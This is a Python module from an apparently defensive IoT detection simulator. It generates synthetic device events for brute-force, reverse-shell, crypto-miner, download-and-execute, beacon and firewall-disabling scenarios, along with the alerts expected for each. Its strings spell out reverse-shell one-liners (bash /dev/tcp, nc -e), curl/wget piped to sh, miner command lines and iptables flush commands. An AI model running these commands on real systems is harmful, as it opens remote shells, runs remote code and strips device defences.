"""Attack scenarios: what an attack looks like in a device's security events.

Each scenario is a function of a device, a start time and a seed. It returns the events the
attack causes on that device (with the device's own processes, users and tools: a busybox
camera gets ``nc -e``, a Debian gateway ``bash -i >& /dev/tcp``), what the device's agent sends
for them and when, and the alert types a detection pipeline is expected to raise. The expected
alerts are a documented default; pass ``expected=`` to change them.

- ``bruteforce``: 30 failed SSH logins from one external address, then a success from it.
  Expected: ``IoT_Bruteforce_Fail``, ``IoT_Bruteforce_Success``.
- ``reverse-shell``: the device's exposed service runs a reverse shell (``bash -i >&
  /dev/tcp/...``, or ``nc ... -e /bin/sh`` on busybox) that connects out to a C2 address.
  Expected: ``IoT_ReverseShell``.
- ``miner``: xmrig (cpuminer on 32-bit ARM) starts with a ``stratum+tcp://`` pool and connects
  to it. Expected: ``IoT_CryptoCoinMiner``.
- ``ti-connection``: the exposed service beacons to an address of the demo STIX bundle
  (:mod:`iotsec.simulate.feed`). Expected: ``IoT_SuspiciousIpCommunication``.
- ``download-exec``: ``curl -fsSL http://... | sh`` (``wget -qO- ... | sh`` on busybox).
  Expected: ``IoT_DownloadAndExecute``.
- ``firewall-off``: ``iptables -P INPUT ACCEPT``, ``iptables -F``, and ``ufw disable`` where
  ufw exists. Expected: ``IoT_DisableFirewall``.
- ``all``: all of the above on one device, 20 minutes apart. Expected: all of the above.

Where the exposed service is a web server (the cameras' lighttpd, running as ``www-data``),
``reverse-shell`` and ``download-exec`` also expect ``IoT_WebShell``: a web server starting a
shell is what a web shell looks like. The ids are those of the built-in catalogue
(``src/iotsec/analytics/catalogue``).

Every attacker address is in a documentation range (RFC 5737) that benign traffic never
reaches; only the ``ti-connection`` addresses are in the STIX bundle.

>>> from datetime import UTC, datetime
>>> from iotsec.simulate.fleet import build_fleet
>>> device = build_fleet(1, seed=1).devices[0]
>>> run = run_scenario("bruteforce", device, datetime(2024, 5, 6, 9, tzinfo=UTC), seed=1)
>>> sorted(run.expected_alerts)
['IoT_Bruteforce_Fail', 'IoT_Bruteforce_Success']
>>> [e.payload[0].result for e in run.activity if e.name == "Login"][-3:]
['Fail', 'Success', 'Success']
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from iotsec.schema import Event
from iotsec.simulate._random import rng_for
from iotsec.simulate.agent import schedule
from iotsec.simulate.errors import UnknownScenario
from iotsec.simulate.events import (
    Proc,
    TimedEvent,
    connection,
    ephemeral_port,
    login,
    process_create,
    process_terminate,
)
from iotsec.simulate.feed import THREAT_INTEL_ADDRESSES
from iotsec.simulate.fleet import SimDevice

__all__ = [
    "ALERT_BRUTEFORCE_FAIL",
    "ALERT_BRUTEFORCE_SUCCESS",
    "ALERT_CRYPTO_MINER",
    "ALERT_DISABLE_FIREWALL",
    "ALERT_DOWNLOAD_EXECUTE",
    "ALERT_REVERSE_SHELL",
    "ALERT_THREAT_INTEL_IP",
    "ALERT_WEB_SHELL",
    "BRUTEFORCE_FAILURES",
    "SCENARIOS",
    "Scenario",
    "ScenarioRun",
    "expand_scenarios",
    "run_scenario",
]

ALERT_BRUTEFORCE_FAIL = "IoT_Bruteforce_Fail"
ALERT_BRUTEFORCE_SUCCESS = "IoT_Bruteforce_Success"
ALERT_REVERSE_SHELL = "IoT_ReverseShell"
ALERT_CRYPTO_MINER = "IoT_CryptoCoinMiner"
ALERT_THREAT_INTEL_IP = "IoT_SuspiciousIpCommunication"
ALERT_DOWNLOAD_EXECUTE = "IoT_DownloadAndExecute"
ALERT_WEB_SHELL = "IoT_WebShell"
ALERT_DISABLE_FIREWALL = "IoT_DisableFirewall"

#: Failed logins before the brute force succeeds.
BRUTEFORCE_FAILURES = 30
_MINING_POOL = "pool.supportxmr.com"
_WORDLIST = ("root", "admin", "ubuntu", "pi", "user", "test", "oracle", "support", "guest")
_BASE58 = "".join(c for c in string.ascii_letters + string.digits if c not in "0OIl")

Facts = dict[str, str]
Builder = Callable[["_Trace"], Facts]


class _Trace:
    """An attack unfolding on a device: a clock, fresh pids, and the events so far."""

    def __init__(self, device: SimDevice, start: datetime, rng: random.Random) -> None:
        self.device, self.at, self.rng = device, start.replace(microsecond=0), rng
        self.events: list[Event] = []
        self._pid = device.pid_at(start) + rng.randint(20, 60)

    def wait(self, low: int, high: int | None = None) -> None:
        self.at += timedelta(seconds=low if high is None else self.rng.randint(low, high))

    def next_pid(self) -> int:
        self._pid += self.rng.randint(1, 3)
        return self._pid

    def proc(self, pid: int, ppid: int, executable: str, command_line: str, user: str) -> Proc:
        uid = self.device.profile.uid(user)
        return Proc(pid, ppid, executable, command_line, user, uid)

    def service(self, name: str) -> Proc:
        svc = self.device.profile.service(name)
        pid = self.device.daemon_pid(name)
        return self.proc(pid, 1, svc.executable, svc.command_line, svc.user)

    def spawn(self, parent: Proc | int, executable: str, command_line: str, user: str) -> Proc:
        ppid = parent if isinstance(parent, int) else parent.pid
        proc = self.proc(self.next_pid(), ppid, executable, command_line, user)
        self.events.append(process_create(proc, self.at, self.device, self.rng))
        return proc

    def exit(self, proc: Proc, status: int = 0) -> None:
        self.events.append(process_terminate(proc, self.at, self.device, self.rng, status))

    def connect(self, proc: Proc, address: str, port: int) -> None:
        self.events.append(
            connection(
                proc,
                self.at,
                self.device,
                self.rng,
                direction="Out",
                remote=(address, port),
                local_port=ephemeral_port(self.rng),
            )
        )

    def accept(self, proc: Proc, address: str, port: int) -> None:
        self.events.append(
            connection(
                proc,
                self.at,
                self.device,
                self.rng,
                direction="In",
                remote=(address, ephemeral_port(self.rng)),
                local_port=port,
            )
        )


def _bruteforce(trace: _Trace) -> Facts:
    device, rng = trace.device, trace.rng
    habits = device.profile.logins
    daemon = trace.service(habits.daemon)
    attacker = f"203.0.113.{rng.randint(10, 99)}"
    victim = habits.admins[0]
    known = {account.name for account in device.profile.accounts}

    def attempt(user: str, result: str) -> int:
        trace.accept(daemon, attacker, 22)
        pid = trace.next_pid()
        if daemon.executable == "/usr/sbin/sshd":  # OpenSSH re-executes itself per connection
            reexec = trace.proc(pid, daemon.pid, daemon.executable, "/usr/sbin/sshd -D -R", "root")
            trace.events.append(process_create(reexec, trace.at, device, rng))
        trace.wait(1, 3)
        operations = ["PAM:authentication"] + (["login"] if result == "Success" else [])
        for operation in operations:
            trace.events.append(
                login(
                    trace.at,
                    device,
                    rng,
                    pid=pid,
                    user=user,
                    uid=device.profile.uid(user) if user in known else None,
                    result=result,
                    operation=operation,
                    executable=daemon.executable,
                    remote_address=attacker,
                )
            )
        return pid

    for n in range(BRUTEFORCE_FAILURES):
        # A dictionary of common names first, then the account the attacker guessed right.
        attempt(_WORDLIST[n % len(_WORDLIST)] if n < 18 else victim, "Fail")
        trace.wait(2, 7)
    session = attempt(victim, "Success")
    trace.wait(1)
    shell = habits.shell
    trace.spawn(session + 1, shell.executable, shell.command_line, victim)
    return {"attacker": attacker, "user": victim, "failures": str(BRUTEFORCE_FAILURES)}


def _reverse_shell(trace: _Trace) -> Facts:
    attack = trace.device.profile.attack
    entry = trace.service(attack.entry)
    c2 = f"198.51.100.{trace.rng.randint(10, 99)}"
    port = trace.rng.choice((4444, 9001, 8443))
    user = entry.user
    if attack.bash is not None:
        redirect = f"bash -i >& /dev/tcp/{c2}/{port} 0>&1"
        outer = trace.spawn(entry, attack.sh, f"/bin/sh -c bash -c '{redirect}'", user)
        inner = trace.spawn(outer, attack.bash, f"bash -c {redirect}", user)
        trace.wait(0, 1)
        # The forked child opens the socket (still titled as its parent), then runs bash -i.
        child = trace.proc(trace.next_pid(), inner.pid, attack.bash, inner.command_line, user)
        trace.connect(child, c2, port)
        trace.spawn(inner, attack.bash, "bash -i", user)
    else:
        command = f"nc {c2} {port} -e /bin/sh"
        outer = trace.spawn(entry, attack.sh, f"sh -c {command}", user)
        nc = trace.spawn(outer, attack.sh, command, user)
        trace.wait(0, 1)
        trace.connect(nc, c2, port)
        trace.spawn(nc, attack.sh, "/bin/sh", user)
    return {"c2": c2, "port": str(port)}


def _miner(trace: _Trace) -> Facts:
    device, rng = trace.device, trace.rng
    entry = trace.service(device.profile.attack.entry)
    pool_address = f"203.0.113.{rng.randint(150, 199)}"
    wallet = "4" + "".join(rng.choice(_BASE58) for _ in range(94))
    pool = f"stratum+tcp://{_MINING_POOL}:3333"
    if device.profile.os.architecture == "armv7l":
        executable = "/tmp/.cpuminer/cpuminer"  # noqa: S108  # where the attacker drops it
        command = f"./cpuminer -a cryptonight -o {pool} -u {wallet} -p {device.host_name} -t 2 -B"
    else:
        executable = "/var/tmp/.cache/xmrig"  # noqa: S108  # where the attacker drops it
        command = f"./xmrig -o {pool} -u {wallet} -p {device.host_name} -k --donate-level 1 -B"
    miner = trace.spawn(entry, executable, command, entry.user)
    trace.wait(1, 3)
    # -B daemonizes: the forked child (no exec, same title) holds the pool connection.
    worker = trace.proc(trace.next_pid(), miner.pid, executable, command, entry.user)
    trace.exit(miner)
    trace.connect(worker, pool_address, 3333)
    return {"pool": pool, "pool_address": pool_address, "executable": executable}


def _ti_connection(trace: _Trace) -> Facts:
    entry = trace.service(trace.device.profile.attack.entry)
    address = trace.rng.choice(THREAT_INTEL_ADDRESSES)
    for _ in range(6):  # a beacon every five minutes
        trace.connect(entry, address, 443)
        trace.wait(290, 310)
    return {"address": address, "service": entry.executable}


def _download_exec(trace: _Trace) -> Facts:
    attack = trace.device.profile.attack
    entry = trace.service(attack.entry)
    server = f"198.51.100.{trace.rng.randint(150, 199)}"
    url = f"http://{server}/i.sh"
    executable, name = attack.downloader
    fetch = f"curl -fsSL {url}" if name == "curl" else f"wget -qO- {url}"
    user = entry.user
    prefix = "/bin/sh -c" if attack.sh != "/bin/busybox" else "sh -c"
    shell = trace.spawn(entry, attack.sh, f"{prefix} {fetch} | sh", user)
    downloader = trace.spawn(shell, executable, fetch, user)
    runner = trace.spawn(shell, attack.sh, "sh", user)
    trace.wait(0, 1)
    trace.connect(downloader, server, 80)
    trace.wait(1, 2)
    trace.exit(downloader)
    trace.wait(1, 3)
    trace.exit(runner)
    trace.exit(shell)
    return {"url": url, "server": server}


def _firewall_off(trace: _Trace) -> Facts:
    attack = trace.device.profile.attack
    # The attacker's root shell started before the scenario: only its pid shows, as a parent.
    root_shell = trace.device.pid_at(trace.at) - trace.rng.randint(40, 400)
    commands = ["iptables -P INPUT ACCEPT", "iptables -F"]
    for command in commands:
        trace.exit(trace.spawn(root_shell, attack.iptables, command, "root"))
        trace.wait(2, 6)
    if attack.ufw and attack.python is not None:
        commands.append("ufw disable")
        # ufw is a Python script: the audit log names the interpreter, argv names the script.
        ufw = "/usr/bin/python3 /usr/sbin/ufw disable"
        trace.exit(trace.spawn(root_shell, attack.python, ufw, "root"))
    return {"commands": "; ".join(commands)}


@dataclass(frozen=True, slots=True)
class Scenario:
    """A named attack: how to build it, and what a detection pipeline should raise for it."""

    name: str
    summary: str
    expected_alerts: frozenset[str]
    #: Simulated time from the first event to the last, about.
    span: timedelta
    build: Builder = field(repr=False)
    #: Also expected where the attack enters through a web server (its account runs the shell).
    web_alerts: frozenset[str] = frozenset()

    def expected_for(self, device: SimDevice) -> frozenset[str]:
        """The alerts expected when this scenario plays on ``device``."""
        web = device.profile.attack.web
        return self.expected_alerts | self.web_alerts if web else self.expected_alerts


@dataclass(frozen=True, slots=True)
class ScenarioRun:
    """One scenario played on one device."""

    scenario: str
    device_id: str
    start: datetime
    #: What happened on the device, in time order (plain events, as collected).
    activity: tuple[Event, ...]
    #: What the device's agent sends for it, and when (aggregated where the device aggregates).
    events: tuple[TimedEvent, ...]
    #: The alert types a detection pipeline is expected to raise for it.
    expected_alerts: frozenset[str]
    #: The attack's particulars: attacker address, C2, pool, URL, ...
    facts: dict[str, str]


SCENARIOS: dict[str, Scenario] = {
    s.name: s
    for s in (
        Scenario(
            "bruteforce",
            f"{BRUTEFORCE_FAILURES} failed SSH logins from one external address, then a success",
            frozenset({ALERT_BRUTEFORCE_FAIL, ALERT_BRUTEFORCE_SUCCESS}),
            timedelta(minutes=5),
            _bruteforce,
        ),
        Scenario(
            "reverse-shell",
            "the exposed service spawns a reverse shell that connects out to a C2 address",
            frozenset({ALERT_REVERSE_SHELL}),
            timedelta(seconds=5),
            _reverse_shell,
            frozenset({ALERT_WEB_SHELL}),
        ),
        Scenario(
            "miner",
            "a crypto miner (xmrig or cpuminer) starts and connects to a stratum pool",
            frozenset({ALERT_CRYPTO_MINER}),
            timedelta(seconds=5),
            _miner,
        ),
        Scenario(
            "ti-connection",
            "the exposed service beacons to an address in the demo STIX feed",
            frozenset({ALERT_THREAT_INTEL_IP}),
            timedelta(minutes=30),
            _ti_connection,
        ),
        Scenario(
            "download-exec",
            "a script is downloaded and piped to a shell (curl ... | sh)",
            frozenset({ALERT_DOWNLOAD_EXECUTE}),
            timedelta(seconds=8),
            _download_exec,
            frozenset({ALERT_WEB_SHELL}),
        ),
        Scenario(
            "firewall-off",
            "the firewall is opened: iptables -P INPUT ACCEPT; iptables -F; ufw disable",
            frozenset({ALERT_DISABLE_FIREWALL}),
            timedelta(seconds=15),
            _firewall_off,
        ),
    )
}
_PARTS = tuple(SCENARIOS)
_ALL_STEP = timedelta(minutes=20)


def _all(trace: _Trace) -> Facts:
    start = trace.at
    facts: Facts = {}
    for offset, part in enumerate(_PARTS):
        trace.at = max(trace.at, start + offset * _ALL_STEP)
        found = SCENARIOS[part].build(trace)
        facts.update({f"{part}.{key}": value for key, value in found.items()})
    return facts


SCENARIOS["all"] = Scenario(
    "all",
    "every scenario above on one device, 20 minutes apart",
    frozenset(alert for s in SCENARIOS.values() for alert in s.expected_alerts),
    timedelta(hours=2),
    _all,
    frozenset(alert for s in SCENARIOS.values() for alert in s.web_alerts),
)


def expand_scenarios(names: Iterable[str]) -> list[str]:
    """``names`` with ``all`` replaced by every scenario, duplicates dropped, order kept.

    Raises:
        UnknownScenario: a name that is not a scenario (with the closest one).
    """
    out: list[str] = []
    for name in names:
        if name not in SCENARIOS:
            raise UnknownScenario(name, SCENARIOS)
        for part in _PARTS if name == "all" else (name,):
            if part not in out:
                out.append(part)
    return out


def run_scenario(
    name: str,
    device: SimDevice,
    start: datetime,
    *,
    seed: int = 0,
    expected: Iterable[str] | None = None,
) -> ScenarioRun:
    """Play scenario ``name`` on ``device`` from ``start``.

    ``expected`` replaces the expected alerts (by default the scenario's, plus its
    ``web_alerts`` on a device whose exposed service is a web server).

    Raises:
        UnknownScenario: no scenario of that name.
        ValueError: ``start`` is not timezone-aware.
    """
    scenario = SCENARIOS.get(name)
    if scenario is None:
        raise UnknownScenario(name, SCENARIOS)
    if start.tzinfo is None:
        raise ValueError(f"the scenario start must be timezone-aware, got {start.isoformat()}")
    trace = _Trace(device, start, rng_for(seed, "scenario", name, device.device_id, start))
    facts = scenario.build(trace)
    activity = sorted(trace.events, key=lambda e: e.timestamp_utc)
    return ScenarioRun(
        scenario=name,
        device_id=device.device_id,
        start=start,
        activity=tuple(activity),
        events=tuple(schedule(device, activity)),
        expected_alerts=scenario.expected_for(device) if expected is None else frozenset(expected),
        facts=facts,
    )
